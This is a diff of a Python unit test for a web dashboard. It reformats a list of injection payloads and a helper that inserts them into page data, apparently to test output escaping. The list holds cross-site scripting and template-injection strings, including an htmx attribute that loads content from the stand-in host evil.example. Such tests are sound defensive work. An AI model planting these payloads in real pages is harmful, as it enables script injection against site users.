@@ -5,20 +5,20 @@ from html.parser import HTMLParser
 
 import msgspec
 import pytest
-
-from seakeep.dashboard.app import create_app
-from seakeep.dashboard.values import ModelPage, NowPage, PredictionPage, RunPage, VersionPage
 from tests.unit.dashboard.conftest import ask
 from tests.unit.dashboard.simulated import MODELS, RUN, SimulatedSource
 
+from seakeep.dashboard.app import create_app
+from seakeep.dashboard.values import ModelPage, NowPage, PredictionPage, RunPage, VersionPage
+
 ATTACKS = (
     "<script>alert(1)</script>",
-    "\"><img src=x onerror=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
     "' onmouseover='alert(1)",
     "</script><svg/onload=alert(1)>",
     "javascript:alert(1)",
     "{{ 7*7 }}{% raw %}",
-    "\" hx-get=\"//evil.example\" hx-trigger=\"load",
+    '" hx-get="//evil.example" hx-trigger="load',
     "<!--",
     "r-3f2a91c07be4<b>",
 )
@@ -46,8 +46,14 @@ def poison(value, attack):
     if isinstance(value, (list, tuple)):
         return type(value)(poison(one, attack) for one in value)
     if isinstance(value, dict):
-        return {attack if k == last else f"{k}{attack}": poison(v, attack) for last in list(value)[-1:] for k, v in value.items()}
-    if isinstance(value, msgspec.Struct) and not type(value).__module__.endswith((".expression", ".feature", ".model", ".source")):
+        return {
+            attack if k == last else f"{k}{attack}": poison(v, attack)
+            for last in list(value)[-1:]
+            for k, v in value.items()
+        }
+    if isinstance(value, msgspec.Struct) and not type(value).__module__.endswith(
+        (".expression", ".feature", ".model", ".source")
+    ):
         changed = {
             field: poison(getattr(value, field), attack)
             for field in value.__struct_fields__
